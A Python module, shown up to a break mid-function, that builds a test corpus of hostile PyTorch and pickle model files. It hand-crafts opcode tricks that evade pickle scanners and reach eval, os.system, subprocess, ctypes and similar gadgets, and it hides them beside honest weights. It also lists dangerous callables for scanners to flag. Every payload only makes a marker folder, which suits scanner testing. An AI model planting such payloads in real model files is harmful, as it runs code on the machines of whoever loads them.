"""Makers of hostile model files: the tricks that picklescan's and fickling's documentation names, and variations.

Every payload makes the file or folder MARKER when something runs it. A file is `live` when plain unpickling
(`pickle.loads`, `torch.load(weights_only=False)`) does run it: `python hostile.py FOLDER` tries that on the files of
a folder (in a process of its own, as payloads break things) and prints the names of those that made their marker.
"""

import base64
import bz2
import contextlib
import gzip
import io
import itertools
import lzma
import marshal
import os
import pickle
import pickletools
import shutil
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import numpy as np
import torch

FORMS = ("zip", "legacy", "bare")


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus.

    Attributes:
        name: what it does; unique in the corpus.
        content: its bytes.
        suffix: how its file name ends.
        live: None if nobody may run it here, else whether plain unpickling is expected to run its payload.
        may_load: the payload, if any, lies where a loader needn't look, so honest weights may come out.
    """

    name: str
    content: bytes
    suffix: str = ".pth"
    live: bool | None = False
    may_load: bool = False


# Fragments of pickles: each pushes one object.


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def glob(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stack_glob(module: str, name: str) -> bytes:
    """By STACK_GLOBAL, which may hold dots under protocol 4."""
    return b"\x80\x04" + text(module) + text(name) + b"\x93"


def push(value: object) -> bytes:
    """Plain data, as pickle writes it: without its protocol, frame and stop, and without a memo."""
    if isinstance(value, tuple):
        return b"(" + b"".join(map(push, value)) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(map(push, value)) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(push(part) for item in value.items() for part in item) + b"u"
    if isinstance(value, str):
        return text(value)
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    return pickle.dumps(value, protocol=2)[2:-1]


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def get(function: bytes, name: str) -> bytes:
    """The attribute of an object, by getattr."""
    return call(glob("builtins", "getattr"), function, text(name))


def module(name: str) -> bytes:
    return call(glob("importlib", "import_module"), text(name))


def of(name: str, *arguments: object) -> bytes:
    """A call of `package.module:function` with plain data."""
    where, _, what = name.partition(":")
    function = stack_glob(where, what) if "." in what else glob(where, what)
    return call(function, *(value if isinstance(value, Raw) else push(value) for value in arguments))


class Raw(bytes):
    """A fragment among plain arguments."""


# The tricks. Each takes the marker's path and gives a fragment that makes the marker.


def routes(marker: str) -> dict[str, bytes]:
    """How a call can be spelt in opcodes; the callable is os.mkdir or near it."""
    path, mkdir = text(marker), glob("posix", "mkdir")
    bytes_of = marker.encode()
    namespace = call(glob("argparse", "Namespace"))
    mapped = glob("builtins", "map") + b"(" + mkdir + b"(" + path + b"tt\x81"
    rot13 = call(glob("codecs", "decode"), text("zxqve"), text("rot13"))
    joined = call(get(text(""), "join"), push(["po", "six"]))
    modules = glob("sys", "modules")
    inner = pickle.dumps({"w": 1})[:-1] + b"0" + call(mkdir, path) + b"."
    return {
        "GLOBAL, REDUCE": call(mkdir, path),
        "GLOBAL, TUPLE1": mkdir + path + b"\x85R",
        "GLOBAL os": call(glob("os", "mkdir"), path),
        "INST": b"(" + path + b"iposix\nmkdir\n",
        "INST of text with STRING": b"(S" + repr(marker).encode() + b"\niposix\nmkdir\n",
        "OBJ": b"(" + mkdir + path + b"o",
        "OBJ with STRING": b"(" + mkdir + b"S" + repr(marker).encode() + b"\no",
        "NEWOBJ": glob("builtins", "tuple") + mapped + b"\x85\x81",
        "NEWOBJ_EX": glob("builtins", "tuple") + mapped + b"\x85}\x92",
        "BUILD by __setstate__": namespace + b"}" + text("__setstate__") + mkdir + b"sb" + path + b"b",
        "BUILD of a partial's state": call(
            call(glob("functools", "partial"), glob("builtins", "print")) + b"(" + mkdir + b"(" + path + b"t}}tb"
        ),
        "NEWOBJ and list": call(glob("builtins", "list"), mapped),
        "STACK_GLOBAL": call(stack_glob("posix", "mkdir"), path),
        "STACK_GLOBAL of STRING": call(b"\x80\x04S'posix'\nS'mkdir'\n\x93", path),
        "STACK_GLOBAL of UNICODE": call(b"Vposix\nVmkdir\n\x93", path),
        "STACK_GLOBAL of BINSTRING": call(b"T\x05\0\0\0posixU\x05mkdir\x93", path),
        "STACK_GLOBAL of SHORT_BINUNICODE": call(b"\x8c\x05posix\x8c\x05mkdir\x93", path),
        "STACK_GLOBAL of BINUNICODE8": call(b"\x8d\x05\0\0\0\0\0\0\0posix\x8d\x05\0\0\0\0\0\0\0mkdir\x93", path),
        "STACK_GLOBAL from the memo": text("posix")
        + b"p901\n0"
        + text("mkdir")
        + b"p902\n0"
        + call(b"g901\ng902\n\x93", path),
        "STACK_GLOBAL from a swapped memo": text("posix")
        + b"r\x90\x03\0\0"
        + b"0"
        + text("mkdir")
        + b"r\x91\x03\0\0"
        + b"0"
        + text("torch._utils")
        + b"\x94"
        + b"0"
        + text("_rebuild_tensor_v2")
        + b"\x94"
        + b"0"
        + call(b"j\x90\x03\0\0j\x91\x03\0\0\x93", path),
        "STACK_GLOBAL of computed names": call(joined + rot13 + b"\x93", path),
        "STACK_GLOBAL between DUP and POP": text("mkdir")
        + b"20"
        + b"p903\n0"
        + call(text("posix") + b"2" + b"0" + b"g903\n\x93", path),
        "dotted, from os": call(stack_glob("os", "path.os.mkdir"), path),
        "dotted, from torch.serialization": call(stack_glob("torch.serialization", "os.mkdir"), path),
        "dotted, from torch": call(stack_glob("torch", "serialization.os.mkdir"), path),
        "dotted, from argparse": call(stack_glob("argparse", "_os.mkdir"), path),
        "dotted, from pathlib": call(stack_glob("pathlib", "os.mkdir"), path),
        "dotted, from collections": call(stack_glob("collections", "_sys.modules.get"), text("posix"))
        + b"p904\n0"
        + call(get(b"g904\n", "mkdir"), path),
        "dotted, by __globals__ of an allowed function": call(
            call(
                stack_glob("builtins", "dict.get"),
                call(stack_glob("torch._utils", "_rebuild_tensor_v2.__globals__.get"), text("__builtins__")),
                text("eval"),
            ),
            text(f"__import__('os').mkdir({marker!r})"),
        ),
        "dotted, by __init__.__globals__ of Namespace": call(
            get(
                call(stack_glob("argparse", "Namespace.__init__.__globals__.get"), text("_os")),
                "mkdir",
            ),
            path,
        ),
        "protocol 0's names": call(
            b"\x80\x00" + glob("__builtin__", "eval"), text(f"__import__('os').mkdir({marker!r})")
        ),
        "protocol 0's reduce": call(b"\x80\x00" + glob("__builtin__", "reduce"), mkdir, push([0o777]), path),
        "protocol 0's itertools": call(
            glob("builtins", "list"), call(b"\x80\x00" + glob("itertools", "imap"), mkdir, push([marker]))
        ),
        "protocol 0's commands": call(b"\x80\x00" + glob("commands", "getoutput"), text(f"mkdir {marker}")),
        "getattr": call(get(module("posix"), "mkdir"), path),
        "getattr of text from bytes": call(
            get(module("posix"), "mkdir"), call(glob("_codecs", "decode"), push(bytes_of), text("utf-8"))
        ),
        "__import__": call(get(call(glob("builtins", "__import__"), text("posix")), "mkdir"), path),
        "attrgetter": call(call(of("operator:attrgetter", "mkdir"), module("posix")), path),
        "_operator.attrgetter": call(call(of("_operator:attrgetter", "mkdir"), module("posix")), path),
        "methodcaller": call(of("operator:methodcaller", "mkdir", marker), module("posix")),
        "itemgetter": call(get(call(of("operator:itemgetter", "posix"), modules), "mkdir"), path),
        "operator.call": call(glob("operator", "call"), mkdir, path),
        "partial": call(call(glob("functools", "partial"), mkdir, path)),
        "functools.reduce": call(glob("functools", "reduce"), mkdir, push([0o777]), path),
        "map and list": call(glob("builtins", "list"), call(glob("builtins", "map"), mkdir, push([marker]))),
        "map and tuple": call(glob("builtins", "tuple"), call(glob("builtins", "map"), mkdir, push([marker]))),
        "map and set": call(glob("builtins", "set"), call(glob("builtins", "map"), mkdir, push([marker]))),
        "map and OrderedDict": call(
            glob("collections", "OrderedDict"), call(glob("builtins", "map"), mkdir, push([marker]))
        ),
        "map and Counter": call(glob("collections", "Counter"), call(glob("builtins", "map"), mkdir, push([marker]))),
        "map and bytearray": call(glob("builtins", "bytearray"), call(glob("builtins", "map"), mkdir, push([marker]))),
        "map and torch.Size": call(glob("torch", "Size"), call(glob("builtins", "map"), mkdir, push([marker]))),
        "filter": call(glob("builtins", "list"), call(glob("builtins", "filter"), mkdir, push([marker]))),
        "starmap": call(
            glob("collections", "deque"), call(glob("itertools", "starmap"), mkdir, push([(marker,)])), push(0)
        ),
        "accumulate": call(
            glob("builtins", "list"), call(glob("itertools", "accumulate"), push([marker, 0o777]), mkdir)
        ),
        "sys.modules replaced": modules
        + text("innocent")
        + modules
        + b"s0"
        + call(glob("innocent", "get"), text("posix"))
        + b"p905\n0"
        + modules
        + text("innocent")
        + b"g905\ns0"
        + call(glob("innocent", "mkdir"), path),
        "extension registered, EXT1": of("copyreg:add_extension", "posix", "mkdir", 241)
        + b"0"
        + call(b"\x82\xf1", path),
        "extension registered, EXT2": of("copyreg:add_extension", "os", "mkdir", 4242)
        + b"0"
        + call(b"\x83" + struct.pack("<H", 4242), path),
        "extension registered, EXT4": of("copyreg:add_extension", "shutil", "os.mkdir", 70_000)
        + b"0\x80\x04"
        + call(b"\x84" + struct.pack("<i", 70_000), path),
        "copyreg.__newobj__": call(glob("copyreg", "__newobj__"), glob("builtins", "tuple"), mapped),
        "pickle.loads": of("pickle:loads", inner),
        "_pickle.loads": of("_pickle:loads", inner),
        "cPickle.loads": b"\x80\x02" + of("cPickle:loads", inner),
        "pickle.loads of bytes by encode": call(
            glob("pickle", "loads"), call(glob("_codecs", "encode"), text(inner.decode("latin1")), text("latin1"))
        ),
        "pickle._loads": of("pickle:_loads", inner),
        "Unpickler.load": call(get(call(glob("pickle", "Unpickler"), of("io:BytesIO", inner)), "load")),
        "torch.storage._load_from_bytes": of("torch.storage:_load_from_bytes", as_legacy(call(mkdir, path))),
        "torch.load of bytes": call(
            of("functools:partial", Raw(glob("torch", "load")))
            + b"("
            + glob("torch", "load")
            + b"("
            + of("io:BytesIO", as_zip(call(mkdir, path)))
            + b"t}"
            + text("weights_only")
            + b"\x89s"
            + b"}tb"
        ),
        "called twice, POP between": call(mkdir, path) + b"0" + b"}",
        "inside POP_MARK": b"(" + call(mkdir, path) + b"1" + b"}",
        "as a dict's key": b"}" + call(mkdir, path) + b"Ns",
        "frozenset's element": b"(" + call(mkdir, path) + b"\x91",
        "an error at the end": call(mkdir, path) + b"0" + b"h\xfe",
        "an unknown opcode at the end": call(mkdir, path) + b"0" + b"\xff",
        "an allowed function calls it": call(
            glob("torch._tensor", "_rebuild_from_type_v2"), mkdir, glob("torch", "Tensor"), push((marker,)), b"}"
        ),
        "in a persistent id": push(("storage",))[:-1]
        + glob("torch", "FloatStorage")
        + text("0")
        + call(mkdir, path)
        + push(2)
        + b"tQ",
        "in a tensor's hooks": call(
            glob("torch._utils", "_rebuild_tensor_v2"),
            call(mkdir, path),
            push(0),
            push(()),
            push(()),
            push(False),
            b"}",
        ),
    }


def gadgets(marker: str) -> dict[str, bytes]:
    """Which callables make trouble: each makes the marker, whether as a folder or as a file."""
    python = f"__import__('os').mkdir({marker!r})"
    shell = f"mkdir {marker}"
    compiled = compile(f"import os; os.mkdir({marker!r})", "x", "exec")
    fields = (
        "argcount",
        "posonlyargcount",
        "kwonlyargcount",
        "nlocals",
        "stacksize",
        "flags",
        "code",
        "consts",
        "names",
        "varnames",
        "filename",
        "name",
        "qualname",
        "firstlineno",
        "linetable",
        "exceptiontable",
    )
    code = [getattr(compiled, f"co_{field}") for field in fields]
    loaded = Raw(of("marshal:loads", marshal.dumps(compiled)))
    function = call(glob("types", "FunctionType"), loaded, b"}")
    path_of = Raw(of("pathlib:PosixPath", marker))

    def method(owner: bytes, name: str, *arguments: object) -> bytes:
        return call(get(owner, name), *(value if isinstance(value, Raw) else push(value) for value in arguments))

    return {
        "builtins.eval": of("builtins:eval", python),
        "builtins.exec": of("builtins:exec", python),
        "builtins.compile": of("builtins:eval", Raw(of("builtins:compile", python, "x", "eval"))),
        "builtins.open": of("builtins:open", marker, "w"),
        "io.open": of("io:open", marker, "w"),
        "_io.open": of("_io:open", marker, "w"),
        "io.FileIO": of("io:FileIO", marker, "w"),
        "_io.FileIO": of("_io:FileIO", marker, "w"),
        "codecs.open": of("codecs:open", marker, "w"),
        "os.system": of("os:system", shell),
        "posix.system": of("posix:system", shell),
        "os.popen": method(of("os:popen", shell), "read"),
        "os.makedirs": of("os:makedirs", marker),
        "os.mkfifo": of("os:mkfifo", marker),
        "os.mknod": of("os:mknod", marker),
        "os.symlink": of("os:symlink", "/nowhere", marker),
        "os.open": of("os:open", marker, os.O_CREAT | os.O_WRONLY),
        "os.spawnv": of("os:spawnv", 0, "/bin/mkdir", ["mkdir", marker]),
        "os.spawnlp": of("os:spawnlp", 0, "mkdir", "mkdir", marker),
        "subprocess.run": of("subprocess:run", ["mkdir", marker]),
        "subprocess.call": of("subprocess:call", ["mkdir", marker]),
        "subprocess.check_call": of("subprocess:check_call", ["mkdir", marker]),
        "subprocess.check_output": of("subprocess:check_output", ["mkdir", marker]),
        "subprocess.getoutput": of("subprocess:getoutput", shell),
        "subprocess.getstatusoutput": of("subprocess:getstatusoutput", shell),
        "subprocess.Popen": method(of("subprocess:Popen", ["mkdir", marker]), "wait"),
        "pathlib.Path.mkdir": method(path_of, "mkdir"),
        "pathlib.Path.touch": call(stack_glob("pathlib", "Path.touch"), path_of),
        "pathlib.Path.write_text": method(path_of, "write_text", "x"),
        "shutil.copyfile": of("shutil:copyfile", os.devnull, marker),
        "logging.FileHandler": of("logging:FileHandler", marker),
        "zipfile.ZipFile": of("zipfile:ZipFile", marker, "w"),
        "zipfile.PyZipFile": of("zipfile:PyZipFile", marker, "w"),
        "tarfile.open": of("tarfile:open", marker, "w"),
        "gzip.open": of("gzip:open", marker, "w"),
        "bz2.open": of("bz2:open", marker, "w"),
        "lzma.open": of("lzma:open", marker, "w"),
        "mailbox.Maildir": of("mailbox:Maildir", marker),
        "mailbox.mbox": of("mailbox:mbox", marker),
        "torch.save": of("torch:save", {}, marker),
        "numpy.memmap": of("numpy:memmap", marker, "uint8", "w+", 0, (1,)),
        "numpy.savetxt": of("numpy:savetxt", marker, [1]),
        "numpy.ndarray.tofile": method(of("numpy:zeros", 1), "tofile", marker),
        "distutils.file_util.write_file": of("distutils.file_util:write_file", marker, ["x"]),
        "runpy._run_code": of("runpy:_run_code", python, {}),
        "cProfile.run": of("cProfile:run", python),
        "cProfile.runctx": of("cProfile:runctx", python, {}, {}),
        "profile.run": of("profile:run", python),
        "profile.Profile.run": method(of("profile:Profile"), "run", python),
        "trace.Trace.run": method(of("trace:Trace", 0, 0), "run", python),
        "trace.Trace.runctx": method(of("trace:Trace", 0, 0), "runctx", python, {}, {}),
        "bdb.Bdb.runeval": method(of("bdb:Bdb"), "run", python),
        "timeit.timeit": of("timeit:timeit", "", python),
        "timeit.Timer": method(of("timeit:Timer", python), "timeit", 1),
        "code.InteractiveInterpreter.runsource": method(of("code:InteractiveInterpreter"), "runsource", python),
        "code.InteractiveInterpreter.runcode": method(of("code:InteractiveInterpreter"), "runcode", python),
        "pydoc.pipepager": of("pydoc:pipepager", "", shell),
        "pydoc.locate": call(of("pydoc:locate", "posix.mkdir"), text(marker)),
        "pkgutil.resolve_name": call(of("pkgutil:resolve_name", "posix:mkdir"), text(marker)),
        "importlib.import_module": call(get(module("os"), "system"), text(shell)),
        "ctypes.CDLL": method(of("ctypes:CDLL", None), "system", shell.encode()),
        "ctypes.PyDLL": method(of("ctypes:PyDLL", None), "mkdir", marker.encode(), 0o777),
        "marshal and FunctionType": call(function),
        "CodeType and FunctionType": call(
            call(glob("types", "FunctionType"), Raw(of("types:CodeType", *code, (), ())), b"}")
        ),
        "exec of marshalled code": of("builtins:exec", loaded),
        "weakref.finalize": method(
            of("weakref:finalize", Raw(glob("os", "path")), Raw(glob("os", "mkdir")), marker), "__call__"
        ),
        "contextlib.ExitStack": method(
            call(stack_glob("contextlib", "ExitStack"))
            + b"p906\n"
            + b"0"
            + method(b"g906\n", "callback", Raw(glob("os", "mkdir")), marker)
            + b"0g906\n",
            "close",
        ),
        "ThreadPoolExecutor.submit": method(
            method(of("concurrent.futures.thread:ThreadPoolExecutor", 1), "submit", Raw(glob("os", "mkdir")), marker),
            "result",
        ),
        "threading.Timer": method(of("threading:Timer", 0, Raw(glob("os", "mkdir")), [marker]), "run"),
        "threading.Thread": method(of("threading:Thread", None, Raw(glob("os", "mkdir")), None, (marker,)), "run"),
        "torch.jit.unsupported_tensor_ops.execWrapper": of(
            "torch.jit.unsupported_tensor_ops:execWrapper", python, {}, {}
        ),
        "torch.utils.collect_env.run": of("torch.utils.collect_env:run", shell),
        "torch.utils.collect_env.run_and_read_all": of(
            "torch.utils.collect_env:run_and_read_all", Raw(glob("torch.utils.collect_env", "run")), shell
        ),
        "numpy.testing._private.utils.runstring": of("numpy.testing._private.utils:runstring", python, {}),
        "numpy.f2py.crackfortran.getlincoef": of("numpy.f2py.crackfortran:getlincoef", python, {"x": 1}),
        "numpy.f2py.crackfortran._eval_length": of("numpy.f2py.crackfortran:_eval_length", python, {}),
        "uuid._get_command_stdout": of("uuid:_get_command_stdout", "mkdir", marker),
        "multiprocessing.pool": method(
            of("multiprocessing.pool:ThreadPool", 1), "apply", Raw(glob("os", "mkdir")), (marker,)
        ),
        "imaplib.IMAP4_stream": of("imaplib:IMAP4_stream", shell),
        "idlelib.calltip.get_entity": of("idlelib.calltip:get_entity", python),
        "lib2to3 Grammar.loads": of("builtins:print", "")
        + b"0"
        + call(
            stack_glob("lib2to3.pgen2.grammar", "Grammar.loads"),
            of("argparse:Namespace"),
            push(b"\x80\x02}(X\x01\0\0\0w" + of("os:mkdir", marker) + b"u."),
        ),
    }


NAMED = """
aiohttp:ClientSession aiohttp.client:ClientSession asyncio:create_subprocess_shell asyncio:run
_aix_support:_read_cmd_output asyncio.unix_events:_UnixSubprocessTransport._start bdb:Bdb.run builtins:breakpoint
builtins:input builtins:globals builtins:locals builtins:vars builtins:setattr builtins:delattr builtins:type
builtins:object builtins:__build_class__ builtins:help builtins:memoryview builtins:print __builtin__:file
__builtin__:execfile __builtin__:raw_input __builtin__:apply cloudpickle.cloudpickle:_make_function
cloudpickle.cloudpickle:subimport cloudpickle.cloudpickle:_builtin_type code:interact codeop:compile_command
commands:getoutput compileall:compile_dir copyreg:_reconstructor copyreg:add_extension copyreg:remove_extension
copy_reg:_reconstructor ctypes:CDLL ctypes:windll ctypes.util:find_library dill:loads dill._dill:_create_code
doctest:debug_script doctest:debug distutils.spawn:spawn ensurepip:_run_pip faulthandler:_sigsegv fcntl:ioctl
ftplib:FTP gc:get_objects getpass:getpass glob:glob http.client:HTTPSConnection httplib:HTTPSConnection
idlelib.autocomplete:AutoComplete.get_entity idlelib.autocomplete:AutoComplete.fetch_completions
idlelib.calltip:Calltip.fetch_tip idlelib.debugobj:ObjectTreeItem.SetText idlelib.pyshell:ModifiedInterpreter.runcode
idlelib.pyshell:ModifiedInterpreter.runcommand idlelib.run:Executive.runcode imaplib:IMAP4 importlib:reload
importlib.machinery:SourceFileLoader importlib.util:spec_from_file_location inspect:getsource joblib:load
lib2to3.pgen2.pgen:ParserGenerator.make_label linecache:getline logging.config:dictConfig logging.config:listen
mmap:mmap multiprocessing:Process multiprocessing.util:spawnv_passfds multiprocessing.reduction:rebuild_connection
nntplib:NNTP nt:system ntpath:realpath numpy:load numpy:fromfile numpy:loadtxt numpy.ctypeslib:load_library
numpy.distutils.exec_command:exec_command numpy.lib.npyio:load numpy.lib.utils:safe_eval
numpy.core.multiarray:fromfile numpy._core.multiarray:frombuffer numpy.testing._private.utils:memusage
operator:setitem operator:delitem os:_exit os:abort os:chmod os:dup2 os:execv os:execvp os:fork os:kill os:posix_spawn
os:putenv os:remove os:rename os:rmdir os:startfile os:unlink os:walk _osx_support:_find_build_tool
_osx_support:_read_output pandas:read_pickle pandas.io.pickle:read_pickle pdb:run pdb:set_trace pip:main
pip._internal:main pip._internal.cli.main:main pip._vendor.distlib.scripts:ScriptMaker platform:popen
platform:_syscmd_file poplib:POP3 posixpath:realpath _posixsubprocess:fork_exec profile:Profile.runctx pty:spawn
py_compile:compile pydoc:plainpager pydoc:safeimport _pyrepl.pager:pipe_pager requests:get requests.api:get
resource:setrlimit rlcompleter:Completer runpy:run_module runpy:run_path select:select selectors:DefaultSelector
shelve:open shutil:move shutil:rmtree shutil:unpack_archive signal:raise_signal signal:signal site:main smtplib:SMTP
socket:create_connection socket:socket socketserver:TCPServer sqlite3:connect ssl:get_server_certificate sys:exit
sys:setprofile sys:settrace sys:setrecursionlimit sys:addaudithook sys:breakpointhook sys:_getframe sys:displayhook
syslog:syslog telnetlib:Telnet tempfile:mktemp tempfile:mkdtemp test.support.script_helper:assert_python_ok
_thread:start_new_thread _thread:interrupt_main tkinter:Tcl torch:compile torch:load torch:set_default_device
torch:from_file torch:ops.load_library torch:classes.load_library torch._dynamo.guards:GuardBuilder.get
torch._inductor.codecache:compile_file torch.distributed.rpc.internal:_run_function
torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression torch.fx.graph_module:reduce_graph_module
torch.fx.graph_module:_deserialize_graph_module torch.hub:load torch.hub:load_state_dict_from_url torch.jit:load
torch.jit._script:unpackage_script_module torch.package:PackageImporter torch.serialization:load
torch.serialization:add_safe_globals torch.utils._config_module:ConfigModule.load_config
torch.utils.bottleneck.__main__:run_autograd_prof torch.utils.bottleneck.__main__:run_cprofile
torch.utils.cpp_extension:load torch.utils.cpp_extension:load_inline torch.utils.model_dump:main
torch.utils.data.datapipes.utils.decoder:basichandlers torch._utils:_rebuild_tensor_v2.__globals__
torch._utils:sys.modules torch.nn.modules.linear:Linear torch.nn.modules.module:Module torch._C:_jit_unwrap_optional
torch._C:import_ir_module torch.multiprocessing.reductions:rebuild_storage_fd
torch.multiprocessing.reductions:rebuild_storage_filename torch.multiprocessing.reductions:rebuild_cuda_tensor
trace:Trace.run types:CodeType types:FunctionType types:MethodType types:ModuleType urllib:urlopen urllib2:urlopen
urllib.request:urlopen urllib.request:urlretrieve uuid:_popen uuid:_ifconfig_getnode uuid:getnode venv:create
_weakref:proxy webbrowser:open webbrowser:get _winapi:CreateProcess winreg:SetValue wsgiref.simple_server:make_server
_interpreters:run_string _xxsubinterpreters:create _xxsubinterpreters:run_string xml.sax:parse
xmlrpc.client:ServerProxy xmlrpc.server:SimpleXMLRPCServer zipimport:zipimporter __main__:main
builtins:getattr.__self__ functools:cmp_to_key sys:modules.clear collections:_sys.exit
collections:OrderedDict.__reduce__ argparse:_sys.exit argparse:ArgumentParser argparse:FileType
pathlib:PosixPath.unlink pathlib:os.system numpy:__builtins__ numpy:sys.exit numpy._core.multiarray:scalar.__self__
numpy.core.multiarray:_reconstruct.__self__ numpy:dtype.__class__ torch:Tensor.__init_subclass__
torch:FloatStorage.from_file torch:UntypedStorage.from_file torch:serialization.pickle.loads
"""
"""Names that scanners list; here they are named and called with the marker's path, but never run."""


def opcodes(marker: str) -> dict[str, bytes]:
    """For each opcode of `pickletools` (STOP aside, which ends all) a fragment with it that pushes one object."""
    path = text(marker)
    long = "<q"
    number = struct.pack("<i", 7)
    return {
        "INT": b"I7\n",
        "BININT": b"J" + number,
        "BININT1": b"K\x07",
        "BININT2": b"M\x07\0",
        "LONG": b"L7L\n",
        "LONG1": b"\x8a\x01\x07",
        "LONG4": b"\x8b\x01\0\0\0\x07",
        "STRING": b"S" + repr(marker).encode() + b"\n",
        "BINSTRING": b"T" + struct.pack("<i", len(marker)) + marker.encode(),
        "SHORT_BINSTRING": b"U\x05posix",
        "BINBYTES": push(marker.encode()),
        "SHORT_BINBYTES": b"C\x05posix",
        "BINBYTES8": b"\x8e" + struct.pack(long, 5) + b"posix",
        "BYTEARRAY8": b"\x96" + struct.pack(long, 5) + b"posix",
        "NEXT_BUFFER": b"\x97",
        "READONLY_BUFFER": b"\x96" + struct.pack(long, 5) + b"posix\x98",
        "NONE": b"N",
        "NEWTRUE": b"\x88",
        "NEWFALSE": b"\x89",
        "UNICODE": b"V" + marker.encode() + b"\n",
        "SHORT_BINUNICODE": b"\x8c\x05posix",
        "BINUNICODE": path,
        "BINUNICODE8": b"\x8d" + struct.pack(long, 5) + b"posix",
        "FLOAT": b"F1.5\n",
        "BINFLOAT": b"G" + struct.pack(">d", 1.5),
        "EMPTY_LIST": b"]",
        "APPEND": b"]" + path + b"a",
        "APPENDS": b"](" + path + b"Ne",
        "LIST": b"(" + path + b"l",
        "EMPTY_TUPLE": b")",
        "TUPLE": b"(" + path + b"t",
        "TUPLE1": path + b"\x85",
        "TUPLE2": path + b"N\x86",
        "TUPLE3": path + b"NN\x87",
        "EMPTY_DICT": b"}",
        "DICT": b"(" + path + b"Nd",
        "SETITEM": b"}" + path + b"Ns",
        "SETITEMS": b"}(" + path + b"Nu",
        "EMPTY_SET": b"\x8f",
        "ADDITEMS": b"\x8f(" + path + b"\x90",
        "FROZENSET": b"(" + path + b"\x91",
        "POP": path + b"N0",
        "DUP": path + b"2\x86",
        "MARK": b"(t",
        "POP_MARK": path + b"(NN1",
        "GET": path + b"p910\n0g910\n",
        "BINGET": path + b"q\xf0" + b"0h\xf0",
        "LONG_BINGET": path + b"p911\n0j" + struct.pack("<I", 911),
        "PUT": path + b"p912\n",
        "BINPUT": path + b"q\xf1",
        "LONG_BINPUT": path + b"r" + struct.pack("<I", 913),
        "MEMOIZE": path + b"\x94",
        "EXT1": b"\x82\xf5",
        "EXT2": b"\x83\xf5\xf5",
        "EXT4": b"\x84\xf5\xf5\xf5\x05",
        "GLOBAL": glob("posix", "mkdir"),
        "STACK_GLOBAL": stack_glob("posix", "mkdir"),
        "REDUCE": call(glob("collections", "OrderedDict")),
        "BUILD": call(glob("collections", "OrderedDict")) + push({"_metadata": marker}) + b"b",
        "INST": b"(icollections\nOrderedDict\n",
        "OBJ": b"(" + glob("collections", "OrderedDict") + b"o",
        "NEWOBJ": glob("collections", "OrderedDict") + b")\x81",
        "NEWOBJ_EX": glob("collections", "OrderedDict") + b")}\x92",
        "PROTO": b"\x80\x05N",
        "FRAME": b"\x95" + struct.pack(long, 1) + b"N",
        "PERSID": b"P" + marker.encode() + b"\n",
        "BINPERSID": push(("storage", "x", "0", "cpu", 2)) + b"Q",
    }


# Forms: a fragment beside honest weights in a zip, in a legacy stream, or alone.


def weights() -> dict[str, torch.Tensor]:
    """Honest weights: [0, 1, … 5] in two rows."""
    return {"w": torch.arange(6.0).reshape(2, 3)}


def saved(value: object, *, legacy: bool = False) -> bytes:
    stream = io.BytesIO()
    torch.save(value, stream, _use_new_zipfile_serialization=not legacy)
    return renamed(stream.getvalue()) if legacy else stream.getvalue()


def renamed(legacy: bytes) -> bytes:
    """A legacy file whose storages are called 100, 101, …; torch calls them by their address in memory."""
    pieces = parts(legacy)
    keys = [str(argument) for opcode, argument, _ in pickletools.genops(pieces[4]) if opcode.name == "BINUNICODE"]
    for number, key in enumerate(sorted(keys, key=lambda key: pieces[3].index(text(key)))):
        pieces[3:5] = [piece.replace(text(key), text(str(100 + number))) for piece in pieces[3:5]]
    return b"".join(pieces)


def entries(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(files: dict[str, bytes] | list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", compression) as archive:
        warnings.simplefilter("ignore")  # of names that come twice
        for name, content in files.items() if isinstance(files, dict) else files:
            info = zipfile.ZipInfo(name)
            info.compress_type = compression
            archive.writestr(info, content)
    return stream.getvalue()


def parts(legacy: bytes) -> list[bytes]:
    """The five pickles of a legacy file (magic, protocol, system, value, keys), then the storages."""
    stream, found = io.BytesIO(legacy), []
    for _ in range(5):
        start = stream.tell()
        for _ in pickletools.genops(stream):
            pass
        found.append(legacy[start : stream.tell()])
    return [*found, legacy[stream.tell() :]]


def with_extra(pickled: bytes, fragment: bytes, place: str = "value") -> bytes:
    """An honest pickle of a dictionary with a fragment put in it."""
    body = pickled[:-1]
    if place == "value":
        return body + text("extra") + fragment + b"s."
    if place == "key":
        return body + fragment + b"Ns."
    if place == "before":
        return body[:2] + fragment + b"0" + body[2:] + b"."
    if place == "dropped":
        return body + fragment + b"0."
    if place == "in a list":
        return body + text("extra") + b"]" + fragment + b"as."
    if place == "in a tuple":
        return body + text("extra") + fragment + b"\x85s."
    if place == "in a state":
        return body + text("extra") + call(glob("collections", "OrderedDict")) + b"}" + text("x") + fragment + b"sbs."
    if place == "instead":
        return body[:2] + fragment + b"."
    raise ValueError(place)


PLACES = ("value", "key", "before", "dropped", "in a list", "in a tuple", "in a state", "instead")


def as_zip(fragment: bytes, place: str = "value") -> bytes:
    files = entries(saved(weights()))
    files["archive/data.pkl"] = with_extra(files["archive/data.pkl"], fragment, place)
    return zipped(files)


def as_legacy(fragment: bytes, place: str = "value") -> bytes:
    pieces = parts(saved(weights(), legacy=True))
    pieces[3] = with_extra(pieces[3], fragment, place)
    return b"".join(pieces)


def as_bare(fragment: bytes, place: str = "value") -> bytes:
    return with_extra(b"\x80\x02}.", fragment, place)


MAKERS: dict[str, Callable[..., bytes]] = {"zip": as_zip, "legacy": as_legacy, "bare": as_bare}


# Families of the corpus.


def in_all_forms(name: str, fragment: bytes, **facts: bool | None) -> Iterator[Hostile]:
    for form in FORMS:
        yield Hostile(f"{name} ({form})", MAKERS[form](fragment), **facts)  # pyright: ignore[reportArgumentType]


def tricks(marker: str) -> Iterator[Hostile]:
    for name, fragment in routes(marker).items():
